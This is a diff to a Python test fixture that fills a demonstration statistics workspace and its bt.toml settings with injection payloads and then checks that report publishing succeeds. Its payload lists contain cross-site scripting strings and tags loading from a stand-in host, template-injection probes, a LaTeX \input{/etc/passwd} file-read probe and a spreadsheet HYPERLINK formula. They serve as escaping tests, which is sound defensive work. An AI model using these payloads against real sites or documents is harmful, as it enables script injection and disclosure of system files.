@@ -1,4 +1,4 @@
-"""A package with an attack in every text of all forty tables: a built demonstration in, a workspace full of attacks out.
+"""A package with an attack in every text of all forty tables: a built demonstration in, a hostile workspace out.
 
 The collective is one of the demonstration, so that every section of its report has something to show. What the door
 lets in stands in its workbook; names of areas, of tables of statistics and of who publishes are attacks too.
@@ -9,6 +9,7 @@ from __future__ import annotations
 import copy
 import datetime as dt
 import json
+import os
 import re
 import shutil
 from pathlib import Path
@@ -32,19 +33,21 @@ MARKUP = (
     "<script>window.__hit=1</script>", "<ScRiPt src=//hit.example/x.js></sCrIpT>", '"><img src=x onerror=__hit=1>',
     "'><svg/onload=__hit=1>", "<iframe src=javascript:parent.__hit=1></iframe>", "<body onload=__hit=1>",
     "</title><script>__hit=1</script>", "</style><script>__hit=1</script>", "</svg><img src=x onerror=__hit=1>",
-    "</textarea><x-hit>", "<a href=javascript:__hit=1>klik</a>", "<math><mi xlink:href=javascript:__hit=1>x</mi></math>",
-    '" onmouseover="__hit=1', "' onfocus='__hit=1' autofocus='", "x onpointerenter=__hit=1 y", "<details open ontoggle=__hit=1>",
-    "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>", "<svg><foreignObject><x-hit></foreignObject></svg>",
-    "<style>body{display:none}</style>", "<link rel=stylesheet href=//hit.example/x.css>", "<base href=//hit.example/>",
-    "<meta http-equiv=refresh content=0;url=//hit.example/>", "<form action=//hit.example/><input name=x autofocus></form>",
-    "<object data=//hit.example/x></object>", "<embed src=//hit.example/x>", "<video src=//hit.example/x onerror=__hit=1>",
-    "]]><x-hit>", "<!--><x-hit>-->", "</td></tr></table><x-hit>", "<template><x-hit></template>", "<input onfocus=__hit=1 autofocus>",
+    "</textarea><x-hit>", "<a href=javascript:__hit=1>klik</a>", "<math><mi href=javascript:__hit=1>x</mi></math>",
+    '" onmouseover="__hit=1', "' onfocus='__hit=1' autofocus='", "x onpointerenter=__hit=1 y", "]]><x-hit>",
+    "<details open ontoggle=__hit=1>", "<svg><animate onbegin=__hit=1 attributeName=x dur=1s>", "<!--><x-hit>-->",
+    "<svg><foreignObject><x-hit></foreignObject></svg>", "<style>body{display:none}</style>",
+    "<link rel=stylesheet href=//hit.example/x.css>", "<base href=//hit.example/>", "</td></tr></table><x-hit>",
+    "<meta http-equiv=refresh content=0;url=//hit.example/>", "<form action=//hit.example/><input autofocus></form>",
+    "<object data=//hit.example/x></object>", "<embed src=//hit.example/x>", "<template><x-hit></template>",
+    "<video src=//hit.example/x onerror=__hit=1>", "<input onfocus=__hit=1 autofocus>",
     "red;background:url(//hit.example/x.png)",
 )  # fmt: skip
 """Text that lives wherever it is not escaped: in a page, in an attribute, in a style or in a drawing."""
 CODES = (
-    "&lt;script&gt;__hit=1&lt;/script&gt;", "&#60;x-hit&#62;", "{{7*7}}{% raw %}", "${7*7}#{7*7}", "{n} {0.__class__} %(n)s %d",
-    r"$\alpha$ en $x_{$ \input{/etc/passwd}", 'zie =HYPERLINK("http://hit.example";"x")', "[bold red]x[/] **x** `x` :smile:",
+    "&lt;script&gt;__hit=1&lt;/script&gt;", "&#60;x-hit&#62;", "{{7*7}}{% raw %}", "${7*7}#{7*7}",
+    "{n} {0.__class__} %(n)s %d", r"$\alpha$ en $x_{$ \input{/etc/passwd}", "[bold red]x[/] **x** `x` :smile:",
+    'zie =HYPERLINK("http://hit.example";"x")',
 )  # fmt: skip
 """Text that lives where it is filled in, drawn as a formula or counted on."""
 PAYLOADS = MARKUP + CODES
@@ -132,16 +135,16 @@ def _own(table: str) -> list[dict[str, Any]]:
 
 
 def published(built_demo: Path, root: Path) -> Path:
-    """Build a workspace of a hostile collective and one other, bundle both, and publish three reports and the index."""
+    """Build a workspace of a hostile collective and one other, bundle both, and publish; at full count more reports."""
     shutil.copytree(built_demo, root)
     monitoring = Workspace(root).monitoring
     for folder in [folder for folder in monitoring.iterdir() if folder.name not in (NAME, OTHER)]:
         shutil.rmtree(folder)
     tables = poisoned(delivered(monitoring / NAME / f"{NAME}.xlsx"))
     (monitoring / NAME / f"{NAME}.xlsx").unlink()
-    write_workbook({name: _sheet(name, rows) for name, rows in tables.items()}, monitoring / NAME / FILE)
-    _poison_places(root)
-    _poison_settings(root)
+    write_workbook({name: sheet(name, rows) for name, rows in tables.items()}, monitoring / NAME / FILE)
+    poison_places(root)
+    poison_settings(root)
     here = settings.load(root)
     built = pipeline.build(Workspace(root), here)
     assert built.refused == {}
@@ -150,18 +153,19 @@ def published(built_demo: Path, root: Path) -> Path:
     consent = bundles.Consent("collective", dt.date(2024, 12, 19), "openbaar", dt.date(2100, 1, 1))
     bundles.make(Workspace(root), here, read_package(monitoring / NAME, None), consent)
     pipeline.build_across(Workspace(root), here)
-    done = report.publish(Workspace(root), here, [NAME, report.ACROSS])
-    done += report.publish(Workspace(root), here, [OTHER], lang="en")
-    assert [outcome.error for outcome in done] == ["", "", ""]
+    asked = [(NAME, "nl"), (report.ACROSS, "nl")] + ([(OTHER, "en"), (NAME, "en")] if os.environ.get("BT_FULL") else [])
+    done = [report.publish(Workspace(root), here, [name], lang=lang, jobs=1) for name, lang in asked]
+    assert {outcome.error for outcomes in done for outcome in outcomes} == {""}
     return root
 
 
-def _sheet(name: str, rows: list[dict[str, Any]]) -> Sheet:
+def sheet(name: str, rows: list[dict[str, Any]]) -> Sheet:
+    """Return rows as a sheet, with the columns in the order in which they are first named."""
     columns = list(dict.fromkeys(column for row in rows for column in row))
     return Sheet(name, [columns, *([row.get(column) for column in columns] for row in rows)], title=name)
 
 
-def _poison_places(root: Path) -> None:
+def poison_places(root: Path) -> None:
     """Put attacks in the names of buurten, wijken and gemeente, in statistics and on maps, and in titles of tables."""
     for path in sorted((Workspace(root).raw / "cbs").glob("*/WijkenEnBuurten.json")):
         regions = json.loads(path.read_text(encoding="utf-8"))
@@ -178,16 +182,16 @@ def _poison_places(root: Path) -> None:
         outlines.to_file(path, layer="buurten", driver="GPKG")
 
 
-def _poison_settings(root: Path) -> None:
+def poison_settings(root: Path) -> None:
     """Put attacks in every text of bt.toml."""
     written = Workspace(root).config.read_text(encoding="utf-8")
     for at, key in enumerate(("publisher", "licence")):
-        written = re.sub(
-            f"(?m)^{key} = .*$", lambda found, at=at: f"{found[0].partition(' ')[0]} = {_toml(attack(at, 0))}", written
-        )
+        (line,) = re.findall(f"(?m)^{key} = .*$", written)
+        written = written.replace(line, f"{key} = {_toml(attack(at, 0))}")
     names = {name: _toml(attack(at, 1)) for at, name in enumerate(("title", "publisher", "contact_name", "licence"))}
     written += "\n[archive]\n" + "".join(f"{name} = {text}\n" for name, text in names.items())
-    written += f"publisher_url = {_toml(ADDRESSES[0])}\nlicence_url = {_toml(ADDRESSES[2])}\naccess_url = {_toml(ADDRESSES[3])}\n"
+    urls = {"publisher_url": ADDRESSES[1], "licence_url": ADDRESSES[2], "access_url": ADDRESSES[3]}
+    written += "".join(f"{name} = {_toml(url)}\n" for name, url in urls.items())
     Workspace(root).config.write_text(written, encoding="utf-8")
 
 
